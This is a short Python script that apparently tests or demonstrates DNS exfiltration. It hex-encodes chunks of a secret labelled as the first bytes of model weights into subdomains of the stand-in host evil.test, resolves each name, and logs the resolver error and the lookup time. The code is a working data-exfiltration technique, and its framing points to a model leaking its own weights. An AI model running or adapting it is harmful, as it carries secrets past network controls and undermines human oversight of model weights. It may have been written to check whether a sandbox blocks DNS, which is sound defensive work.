"""Carries a secret out in names below its own domain. One line for each: how it ended, and after how many milliseconds."""
import socket
import time

SECRET = b"the first bytes of the model weights"
ENDS = {socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_NONAME: "EAI_NONAME"}

# What the first lookup of a process loads is no part of how long a name takes.
socket.getaddrinfo("localhost", 443)

for start in range(0, len(SECRET), 9):
    name = f"{SECRET[start:start + 9].hex()}.evil.test"
    begun = time.perf_counter()
    try:
        socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)
        outcome = "answered"
    except socket.gaierror as error:
        outcome = ENDS.get(error.errno, str(error.errno))
    print(name, outcome, (time.perf_counter() - begun) * 1000)
